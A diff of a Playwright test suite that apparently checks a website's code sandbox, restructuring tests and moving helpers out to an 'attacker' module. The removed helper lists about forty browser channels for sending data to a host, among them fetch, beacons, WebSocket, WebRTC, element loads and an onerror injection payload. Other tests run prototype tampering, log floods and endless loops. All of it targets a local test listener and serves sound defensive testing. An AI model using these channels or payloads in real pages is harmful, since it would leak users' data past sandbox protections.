@@ -1,8 +1,7 @@
 import type { Environment } from '../../content/codeMeta';
-import { createServer } from 'node:net';
-import type { AddressInfo } from 'node:net';
 import type { BrowserContext, Page } from '@playwright/test';
 import type { RunEvent } from '../../features/examples/evaluator/events';
+import { connectToAll, listen, prepareConnections } from './attacker';
 import { expect, test as base } from './fixtures';
 import { openHarness, runInSandbox } from './runInSandbox';
 import { addressVariable } from '../fixtures/names';
@@ -49,10 +48,10 @@ const printed = (events: RunEvent[]) =>
     event.type === 'console' ? (event.text.details ?? event.text.summary) : [],
   );
 
-for (const environment of ENVIRONMENTS) {
-  test(`reports what happens in a ${environment}, in order, with lines`, async ({
-    harness: page,
-  }) => {
+test('reports what happens, in order, with lines, in a worker and in a document', async ({
+  harness: page,
+}) => {
+  for (const environment of ENVIRONMENTS) {
     const [events] = await runInSandbox(
       page,
       environment,
@@ -80,9 +79,11 @@ for (const environment of ENVIRONMENTS) {
       { type: 'unreached', line: 9, expected: '1', time },
       { type: 'finished', time },
     ]);
-  });
+  }
+});
 
-  test(`gives a ${environment} nothing of the site`, async ({ harness: page }) => {
+test('gives nothing of the site, in a worker and in a document', async ({ harness: page }) => {
+  for (const environment of ENVIRONMENTS) {
     const events = await attack(
       page,
       environment,
@@ -115,19 +116,27 @@ for (const environment of ENVIRONMENTS) {
     );
     expect(printed(events)).toEqual(['origin null']);
     expect(events.at(-1)!.type).toBe('finished');
-  });
+  }
+});
 
-  test(`lets a ${environment} connect to nobody`, async ({ harness: page }) => {
+test('lets code connect to nobody, in a worker and in a document', async ({ harness: page }) => {
+  for (const environment of ENVIRONMENTS) {
     const attacker = await listen();
     const events = await attack(page, environment, connectToAll(attacker.host));
     expect(printed(events)).toEqual(['all tried']);
+    // What a document prepares: see below.
+    if (environment === 'worker') {
+      await attack(page, environment, `try { ${prepareConnections(attacker.host)} } catch {}`);
+    }
     expect(attacker.connections()).toBe(0);
     attacker.close();
-  });
+  }
+});
 
-  test(`keeps what a ${environment} throws, whatever it says of its line`, async ({
-    harness: page,
-  }) => {
+test('keeps what is thrown, whatever it says of its line, in a worker and in a document', async ({
+  harness: page,
+}) => {
+  for (const environment of ENVIRONMENTS) {
     const code = `const error = new Error('made up');
       error.stack = 'example.js:99999999999999999999:1';
       setTimeout(() => { throw error; });
@@ -142,9 +151,11 @@ for (const environment of ENVIRONMENTS) {
       '<an error that cannot be printed>',
     ]);
     expect(events.at(-1)!.type).toBe('finished');
-  });
+  }
+});
 
-  test(`ends a flood from a ${environment}`, async ({ harness: page }) => {
+test('ends a flood, in a worker and in a document', async ({ harness: page }) => {
+  for (const environment of ENVIRONMENTS) {
     const floods = [
       'while (true) console.log(1);',
       "while (true) console.log('x'.repeat(1e6));",
@@ -156,9 +167,11 @@ for (const environment of ENVIRONMENTS) {
       expect(events.length).toBeLessThan(1100);
       expect(JSON.stringify(events).length).toBeLessThan(1_000_000);
     }
-  });
+  }
+});
 
-  test(`is not broken by what runs in a ${environment}`, async ({ harness: page }) => {
+test('is not broken by what runs, in a worker and in a document', async ({ harness: page }) => {
+  for (const environment of ENVIRONMENTS) {
     const tampering = `
       const hostile = () => { throw new Error('tampered'); };
       for (const owner of [Array, String, Map, Set, Promise, Function, Object, RegExp]) {
@@ -185,8 +198,8 @@ for (const environment of ENVIRONMENTS) {
     expect(printedValues!.at(-1)!.type).toBe('finished');
     expect(printedValues!.filter(({ type }) => type === 'error')).toEqual([]);
     await attack(page, environment, values);
-  });
-}
+  }
+});
 
 test('ends what would never end, while the page goes on', async ({ harness: page }) => {
   const endless = [
@@ -204,13 +217,6 @@ test('ends what would never end, while the page goes on', async ({ harness: page
   // Serial: documents may share a process, in which one blocks the others.
   expect((await attack(page, 'document', endless[0]!)).at(-1)).toEqual(isEnd);
   await expect(page.locator('iframe')).toHaveCount(0);
-});
-
-test('lets a worker prepare no connection', async ({ harness: page }) => {
-  const attacker = await listen();
-  await attack(page, 'worker', `try { ${prepareConnections(attacker.host)} } catch {}`);
-  expect(attacker.connections()).toBe(0);
-  attacker.close();
 });
 
 // Known limit, named in the README: neither CSP nor sandbox covers these.
@@ -353,7 +359,9 @@ test('bears a sandbox that is not ours', async ({ context }) => {
   expect(await nonsense!).toEqual([{ type: 'finished', time: 1 }]);
 });
 
-test('says so where the sandbox cannot be loaded', async ({ context }) => {
+test('says so where the sandbox cannot be loaded, or a deployment has replaced it', async ({
+  context,
+}) => {
   const page = await context.newPage();
   await page.clock.install();
   await page.route('**/runner/*.html', (route) => route.abort());
@@ -362,15 +370,12 @@ test('says so where the sandbox cannot be loaded', async ({ context }) => {
   await page.waitForEvent('requestfailed');
   await page.clock.runFor(30_000);
   expect(await run).toEqual([[{ type: 'unavailable', isOutdated: false, time }]]);
-});
-
-test('says so where a deployment has replaced the sandbox', async ({ context }) => {
-  const page = await context.newPage();
-  await page.route('**/runner/*.html', (route) =>
+  const replaced = await context.newPage();
+  await replaced.route('**/runner/*.html', (route) =>
     route.fulfill({ status: 404, contentType: 'text/html', body: '<h1>404</h1>' }),
   );
-  await openHarness(page);
-  expect(await runInSandbox(page, 'worker', HARMLESS)).toEqual([
+  await openHarness(replaced);
+  expect(await runInSandbox(replaced, 'worker', HARMLESS)).toEqual([
     [{ type: 'unavailable', isOutdated: true, time }],
   ]);
 });
@@ -415,92 +420,4 @@ async function runImpostor(context: BrowserContext, code: string): Promise<RunEv
   await openHarness(impostor);
   const [events] = await runInSandbox(impostor, 'worker', HARMLESS);
   return events!;
-}
-
-/** A TCP server that counts connections and records data. */
-async function listen() {
-  let connections = 0;
-  let received = '';
-  const server = createServer((socket) => {
-    connections += 1;
-    socket.on('data', (data) => (received += String(data))).on('error', () => {});
-  });
-  await new Promise<void>((resolve) => {
-    server.listen(0, '127.0.0.1', resolve);
-  });
-  const { port } = server.address() as AddressInfo;
-  return {
-    host: `127.0.0.1:${port}`,
-    connections: () => connections,
-    received: () => received,
-    close: () => server.close(),
-  };
-}
-
-/** Preconnect hints. */
-function prepareConnections(host: string): string {
-  return `for (const rel of ['dns-prefetch', 'preconnect']) {
-    const link = document.createElement('link');
-    Object.assign(link, { rel, href: 'http://${host}/' });
-    document.head.append(link);
-  }
-  await new Promise((resolve) => setTimeout(resolve, 500));`;
-}
-
-/** All known ways to send data, in a document or a worker. */
-function connectToAll(host: string): string {
-  return `
-    const url = 'http://${host}/';
-    const add = (name, attributes) => {
-      const element = document.createElement(name);
-      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
-      document.body.append(element);
-      return element;
-    };
-    const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
-    const tries = [
-      () => fetch(url),
-      () => fetch(url, { mode: 'no-cors', keepalive: true }),
-      () => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
-      () => navigator.sendBeacon(url, 'x'),
-      () => new WebSocket('ws://${host}/'),
-      () => new EventSource(url),
-      () => new WebTransport('https://${host}/'),
-      () => importScripts(url),
-      () => importScripts(URL.createObjectURL(new Blob(['fetch("' + url + '")']))),
-      () => import(url),
-      () => import('data:text/javascript,fetch("' + url + '")'),
-      () => worker('fetch("' + url + '")'),
-      () => new Worker(url),
-      () => new SharedWorker(url),
-      () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel(''),
-      () => { new Image().src = url; },
-      () => add('img', { src: url, srcset: url }),
-      () => add('script', { src: url }),
-      () => add('link', { rel: 'stylesheet', href: url }),
-      () => add('link', { rel: 'prefetch', href: url }),
-      () => add('link', { rel: 'modulepreload', href: url }),
-      () => add('link', { rel: 'icon', href: url }),
-      () => add('link', { rel: 'manifest', href: url }),
-      () => add('iframe', { srcdoc: '<img src="' + url + '">' }),
-      () => add('object', { data: url }),
-      () => add('embed', { src: url }),
-      () => add('video', { src: url, poster: url }),
-      () => add('audio', { src: url }).play(),
-      () => add('div', { style: 'background: url(' + url + ')' }),
-      () => { add('style', {}).textContent = '@import "' + url + '"; body { cursor: url(' + url + '), auto }'; },
-      () => add('form', { action: url, method: 'post' }).submit(),
-      () => add('a', { href: url, ping: url, target: '_blank' }).click(),
-      () => add('a', { href: url, target: '_top' }).click(),
-      () => add('a', { href: url, target: '_blank' }).click(),
-      () => open(url),
-      () => { top.location = url; },
-      () => top.location.replace(url),
-      () => { document.body.innerHTML += '<svg><image href="' + url + '"/></svg><img src=x onerror="fetch(\\'' + url + '\\')">'; },
-    ];
-    for (const run of tries) {
-      try { await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 20))]); } catch {}
-    }
-    await new Promise((resolve) => setTimeout(resolve, 200));
-    console.log('all tried');`;
 }
